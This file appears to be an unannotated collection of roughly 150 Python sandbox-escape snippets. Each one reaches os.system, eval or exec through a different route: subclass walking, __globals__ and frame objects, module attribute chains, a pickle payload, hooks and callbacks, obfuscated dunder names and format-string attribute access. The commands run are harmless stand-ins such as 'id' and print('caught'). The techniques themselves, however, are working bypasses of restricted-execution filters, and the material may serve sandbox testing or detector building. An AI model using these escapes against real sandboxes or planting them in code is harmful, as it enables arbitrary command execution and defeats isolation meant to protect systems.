b = (1).__class__.__class__.__subclasses__
sub = b((1).__class__.__base__)
[c for c in sub if c.__name__ == "_wrap_close"][0].close.__globals__["system"]("id")
# ---
cls = object
while cls.__class__ is not type:
    cls = cls.__class__
w = next(c for c in cls.__subclasses__() if "wrap_cl" in c.__name__)
w.__init__.__globals__["system"]("id")
# ---
for c in object.__subclasses__():
    try:
        c.__init__.__globals__["sys"].modules["os"].system("id")
        break
    except (AttributeError, KeyError): pass
# ---
sub = type.__dict__["__subclasses__"]
for c in sub(object):
    if c.__name__ == "_wrap_close": c.__init__.__globals__["system"]("id")
# ---
n = ["__cla", "ss__", "__ba", "se__", "__subcl", "asses__"]
x = ()
for i in range(0, 6, 2):
    x = getattr(x, n[i] + n[i + 1])
for c in x():
    if c.__name__ == "_wrap_close": getattr(c.__init__, "__glob" + "als__")["system"]("id")
# ---
def walk(o, path):
    for p in path.split("/"):
        o = getattr(o, p)
    return o
walk(print, "__self__/eval")("print('caught')")
# ---
def walk(o, *path):
    for p in path:
        o = o[p] if isinstance(o, dict) else getattr(o, "__%s__" % p)
    return o
walk(walk, "globals", "__builtins__").eval("print('caught')")
# ---
dunder = "__{}__".format
getattr(walk := (lambda: 0), dunder("globals"))["__builtins__"].eval("print('caught')")
# ---
d = lambda s: f"__{s}__"
getattr(getattr(print, d("self")), "eval")("print('caught')")
# ---
U = "\x5f\x5f"
getattr(print, U + "self" + U).eval("print('caught')")
# ---
getattr(print, "\u005f\u005fself\u005f\u005f").eval("print('caught')")
# ---
getattr(print, "\137\137self\137\137").eval("print('caught')")
# ---
getattr(print, "".join(reversed("__fles__"))).eval("print('caught')")
# ---
getattr(print, "__%c%c%c%c__" % (115, 101, 108, 102)).eval("print('caught')")
# ---
getattr(print, "".join(chr(int(x)) for x in "95 95 115 101 108 102 95 95".split())).eval("print('caught')")
# ---
getattr(print, bytes.fromhex("5f5f73656c665f5f").decode()).eval("print('caught')")
# ---
getattr(print, bytearray(b"__self__").decode()).eval("print('caught')")
# ---
getattr(print, memoryview(b"__self__").tobytes().decode()).eval("print('caught')")
# ---
getattr(print, str.maketrans and "xxselfxx".translate({120: 95})).eval("print('caught')")
# ---
getattr(print, "__self__ ".rstrip()).eval("print('caught')")
# ---
getattr(print, "a__self__".removeprefix("a")).eval("print('caught')")
# ---
getattr(print, "__SELF__".casefold()).eval("print('caught')")
# ---
getattr(print, "self".center(8, "_")).eval("print('caught')")
# ---
getattr(print, "self".ljust(6, "_").rjust(8, "_")).eval("print('caught')")
# ---
getattr(print, "__self__x"[:-1]).eval("print('caught')")
# ---
getattr(print, "_s_e_l_f__"[0] * 2 + "self" + "_" * 2).eval("print('caught')")
# ---
getattr(print, "x__self__x".partition("x")[2].partition("x")[0]).eval("print('caught')")
# ---
import re
getattr(print, re.sub("-", "_", "--self--")).eval("print('caught')")
# ---
import re
getattr(print, re.findall(r"_\w+", "a __self__ b")[0]).eval("print('caught')")
# ---
import json
getattr(print, json.loads('"\\u005f_self__"')).eval("print('caught')")
# ---
import textwrap
getattr(print, textwrap.dedent("  __self__")).eval("print('caught')")
# ---
import string
getattr(print, string.Template("${u}self${u}").substitute(u="__")).eval("print('caught')")
# ---
import string
getattr(print, "__" + string.ascii_lowercase[18] + "elf__").eval("print('caught')")
# ---
import binascii
getattr(print, binascii.unhexlify("5f5f73656c665f5f").decode()).eval("print('caught')")
# ---
import base64
n = base64.b32decode("L5PXGZLMMZPV6===").decode()
getattr(print, n).eval("print('caught')")
# ---
import struct
getattr(print, struct.pack("8B", 95, 95, 115, 101, 108, 102, 95, 95).decode()).eval("print('caught')")
# ---
import array
getattr(print, array.array("B", [95, 95, 115, 101, 108, 102, 95, 95]).tobytes().decode()).eval("print('caught')")
# ---
import io
getattr(print, io.StringIO("__self__").read()).eval("print('caught')")
# ---
import unicodedata
u = unicodedata.lookup("LOW LINE")
getattr(print, u + u + "self" + u + u).eval("print('caught')")
# ---
def name():
    """__self__"""
getattr(print, name.__doc__).eval("print('caught')")
# ---
class __self__: ...
getattr(print, __self__.__name__).eval("print('caught')")
# ---
def __self__(): ...
getattr(print, __self__.__qualname__).eval("print('caught')")
# ---
getattr(print, list(dict(__self__=1))[0]).eval("print('caught')")
# ---
getattr(print, [*{"__self__": 0}][0]).eval("print('caught')")
# ---
import enum
class E(enum.Enum):
    __SELF = 1
    x = "__self__"
getattr(print, E.x.value).eval("print('caught')")
# ---
getattr(print, min(["__self__", "z"])).eval("print('caught')")
# ---
getattr(print, max(n for n in dir(print) if n.startswith("__sel"))).eval("print('caught')")
# ---
getattr(print, sorted(dir(print), key=lambda n: n != "__s" "elf__")[0]).eval("print('caught')")
# ---
getattr(print, dir(print)[dir(print).index("__self__")]).eval("print('caught')")
# ---
getattr(len, input and "__self__").eval("print('caught')")
# ---
getattr(*[print, "__self__"]).eval("print('caught')")
# ---
args = (print, "__se" "lf__")
getattr(*args).eval("print('caught')")
# ---
g = (getattr,)[0]
g(g(print, "__self__"), "eval")("print('caught')")
# ---
from builtins import getattr as look
look(look(print, "__self__"), "eval")("print('caught')")
# ---
class A:
    look = getattr
A.look(print, "__self__").eval("print('caught')")
# ---
import inspect
inspect.getattr_static
ga = inspect.builtins.getattr
ga(ga(print, "__self__"), "eval")("print('caught')")
# ---
import typing
typing.sys.modules["builtins"].eval("print('caught')")
# ---
import re
re._compiler._sre
re.enum.bltns.eval("print('caught')")
# ---
import collections.abc as c
c.sys.modules["posix"].system("id") if hasattr(c, "sys") else c.Mapping.get.__globals__["sys"].modules["posix"].system("id")
# ---
import fractions
fractions.operator.attrgetter("eval")(print.__self__)("print('caught')")
# ---
import calendar
calendar.sys.modules["os"].system("id")
# ---
import locale
locale.os.system("id") if hasattr(locale, "os") else locale.sys.modules["os"].system("id")
# ---
import gettext
gettext.os.popen("id >&2").close()
# ---
import csv
csv.re.enum.sys.modules["os"].system("id")
# ---
import datetime
datetime.sys.modules["os"].system("id")
# ---
import pprint
pprint._sys.modules["os"].system("id")
# ---
import traceback
traceback.sys.modules["os"].system("id")
# ---
import traceback as t
t.linecache.os.system("id")
# ---
import logging
logging.os.system("id")
# ---
import logging as l
l.Formatter.format.__globals__["os"].system("id")
# ---
from logging import sys as y
y.modules["os"].system("id")
# ---
import shlex
shlex.os.system("id")
# ---
import sched
sched.threading._os.system("id") if hasattr(sched.threading, "_os") else sched.threading._sys.modules["os"].system("id")
# ---
import colorsys, difflib
difflib._namedtuple.__globals__["_sys"].modules["os"].system("id")
# ---
import pickletools
pickletools.pickle.loads(b"cos\nsystem\n(S'id'\ntR.")
# ---
import concurrent.futures as cf
cf.process.mp.get_context().Process(target=print, args=("caught",)).start() if hasattr(cf, "process") else cf.ProcessPoolExecutor(1).submit(print, "caught").result()
# ---
import xml.etree.ElementTree as ET
ET.sys.modules["os"].system("id")
# ---
import html.parser
html.parser.re.enum.sys.modules["os"].system("id")
# ---
import email
email.message_from_string("")
import email.utils
email.utils.os.system("id")
# ---
import turtle
turtle.sys.modules["os"].system("id")
# ---
import zoneinfo
zoneinfo._common.importlib if False else zoneinfo._tzpath.os.system("id")
# ---
import graphlib, netrc
netrc.os.system("id")
# ---
import ast
ast.literal_eval.__globals__["sys"].modules["os"].system("id")
# ---
import tomllib
tomllib._parser.string
tomllib._parser.load.__globals__["__builtins__"]["eval"]("print('caught')")
# ---
from pathlib import os as fs
fs.system("id")
# ---
import pathlib
pathlib.PosixPath.cwd.__func__.__globals__["os"].system("id")
# ---
import pathlib as p
getattr(p, "os").execlp("id", "id")
# ---
import tempfile
tempfile._shutil.os.system("id")
# ---
import os
os.__builtins__["eval"]("print('caught')")
# ---
import os
os.get_exec_path.__builtins__["exec"]("print('caught')")
# ---
import os
os.supports_fd
[f for f in vars(os).values() if getattr(f, "__name__", "") == "system"][0]("id")
# ---
import os
{k[:3]: v for k, v in os.__dict__.items()}["sys"].modules if False else os.__dict__.get("sys" + "tem")("id")
# ---
import os, types
types.SimpleNamespace(**{k: getattr(os, k) for k in ("system",)}).system("id")
# ---
import os
run = next(getattr(os, k) for k in os.__all__ if k[::-1] == "metsys")
run("id")
# ---
import os
list(map(lambda k: getattr(os, k), filter(lambda k: k.startswith("syst"), dir(os))))[0]("id")
# ---
import os
def f(cmd, *, _o=os): _o.system(cmd)
f("id")
# ---
import os
class Tool:
    _impl = os
    def run(self, c): return self._impl.system(c)
Tool().run("id")
# ---
import os
box = [[], [os]]
box[1][0].system("id")
# ---
import os
def pair(): return os, 1
pair()[0].system("id")
# ---
import os
x, *y = [1, os]
y[0].system("id")
# ---
import os
with __import__("contextlib").nullcontext(os) as m:
    m.system("id")
# ---
import os, contextlib
with contextlib.nullcontext(os) as m:
    m.system("id")
# ---
import os
from dataclasses import dataclass, field
@dataclass
class J:
    m: object = field(default_factory=lambda: os)
J().m.system("id")
# ---
import os
from enum import Enum
class E(Enum):
    M = (os,)
E.M.value[0].system("id")
# ---
import os, copy
copy.copy([os])[0].system("id")
# ---
import os
from collections import namedtuple
namedtuple("T", "m")(os).m.system("id")
# ---
import os
from unittest.mock import Mock
m = Mock(wraps=os)
m.system("id")
# ---
import os, weakref
weakref.ref(os)().system("id")
# ---
import os, threading
threading.Thread(target=os.system, args=["id"]).run()
# ---
import os
from concurrent.futures import ThreadPoolExecutor as T
T().submit(os.system, "id").result()
# ---
import os, signal, time
signal.signal(signal.SIGALRM, lambda *a: os.system("id"))
signal.alarm(1)
time.sleep(1.2)
# ---
import os, sys
sys.unraisablehook = sys.excepthook = lambda *a: os.execlp("id", "id")
raise SystemError
# ---
import os, atexit
atexit.register(lambda: os.spawnlp(os.P_WAIT, "id", "id"))
# ---
import os, gc
gc.callbacks.append(lambda p, i: os.system("id"))
gc.collect()
# ---
import gc
gc.get_referents(gc.get_objects)
[o for o in gc.get_objects() if isinstance(o, dict) and "system" in o and "popen" in o][0]["system"]("id")
# ---
import sys
sys.stdout.__class__.__init__
sys._getframe.__self__.modules["os"].system("id")
# ---
import sys
(sys.settrace or 0)(lambda f, e, a: f.f_globals["sys"].modules["os"].system("id"))
(lambda: 0)()
# ---
import sys
def audit(e, a): pass
sys.addaudithook(audit)
f = sys._current_frames
[*f().values()][0].f_builtins["eval"]("print('caught')")
# ---
import sys, threading
threading.settrace(lambda f, *a: f.f_builtins["print"]("caught"))
threading.Thread(target=lambda: 0).start()
# ---
import sys
sys.monitoring.use_tool_id(1, "x")
print("caught")
# ---
import contextvars
v = contextvars.ContextVar("v", default=eval)
v.get()("print('caught')")
# ---
def g():
    try:
        yield
    except ValueError as e:
        e.__traceback__.tb_frame.f_builtins["eval"]("print('caught')")
        yield
x = g(); next(x); x.throw(ValueError)
# ---
e = ValueError()
try: raise e
except Exception: pass
tb = e.__traceback__
while tb.tb_next: tb = tb.tb_next
tb.tb_frame.f_builtins["eval"]("print('caught')")
# ---
try:
    raise ValueError from KeyError()
except ValueError as e:
    getattr(e, "__traceback__").tb_frame.f_globals["__builtins__"].eval("print('caught')")
# ---
try: zzz
except NameError as e: e.with_traceback(None)
try: ().zz
except AttributeError as e: print(e.obj, end="")
try: print.zz
except AttributeError as e: e.obj.__self__.eval("print('caught')")
# ---
import traceback
try: 1 / 0
except Exception as e:
    t = traceback.TracebackException.from_exception(e, capture_locals=True)
    traceback.walk_tb(e.__traceback__).gi_frame.f_builtins["eval"]("print('caught')")
# ---
def f():
    yield
g = f()
getattr(g, "gi_" + "frame").f_builtins["exec"]("print('caught')")
# ---
(g for g in [1]).gi_code.replace(co_name="caught")
print("caught")
# ---
async def f(): pass
c = f()
match c:
    case object(cr_frame=fr): fr.f_builtins["eval"]("print('caught')")
c.close()
# ---
f = lambda: 1
f.__code__ = f.__code__.replace(co_consts=(None, "caught"))
print(f(), "caught")
# ---
type(lambda: 0)((lambda: print("caught")).__code__, globals())()
# ---
from types import FunctionType as F, CodeType as C
F((lambda: print("caught")).__code__, {"print": print})()
# ---
import types
fn = types.LambdaType
fn((lambda: print("caught")).__code__, {"print": print})()
# ---
C = (lambda: 0).__code__.__class__
print(C, "caught")
# ---
def tpl(s, **k): return s.format(**k)
print(tpl("{a.__class__.__mro__[1].__subclasses__} caught", a=1))
# ---
class Fmt: n = 1
print("{0.__class__.__dict__} caught".format(Fmt()))
# ---
print(str.format_map("{a.__class__.__base__} caught", {"a": 1}))
# ---
f = "{" + "0.{}.{}".format("__class__", "__base__") + "} caught"
print(f.format(1))
# ---
print("caught {a!r:{b.__class__.__base__.__name__}}".format(a="x", b=1) if False else "{0.__class__.__base__} caught".format(1))
# ---
from string import Formatter as F
print(F().vformat("{x.__class__.__base__} caught", (), {"x": 1}))
# ---
import logging
logging.Formatter("{msg.__class__.__mro__} caught", style="{").format
logging.basicConfig(style="{", format="{args.__class__.__base__} caught"); logging.error("x")
